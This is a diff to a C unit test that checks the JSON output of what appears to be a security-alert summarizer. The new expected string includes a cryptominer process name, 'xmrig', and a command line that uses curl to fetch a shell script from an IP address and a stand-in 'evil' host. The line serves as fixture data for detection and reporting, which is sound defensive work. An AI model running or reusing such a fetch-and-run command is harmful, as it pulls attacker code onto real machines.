@@ -74,8 +74,9 @@ static void test_whole(void **state)
     assert_str(
         buf_str(&buf),
         "{\"summary\":\"マイナーです。\",\"claims\":[{\"text\":\"It ran.\",\"fields\":"
-        "[\"proc.name\",\"proc.cmdline\"]},{\"text\":\"It ran.\",\"fields\":[\"proc.name\"]}],"
-        "\"steps\":[\"Look.\",\"Ask.\"]}");
+        "[{\"id\":\"proc.name\",\"value\":\"xmrig\"},{\"id\":\"proc.cmdline\",\"value\":"
+        "\"curl http://203.0.113.7/x.sh www.evil.example\"}]},{\"text\":\"It ran.\",\"fields\":"
+        "[{\"id\":\"proc.name\",\"value\":\"xmrig\"}]}],\"steps\":[\"Look.\",\"Ask.\"]}");
     buf_done(&buf);
 }
 
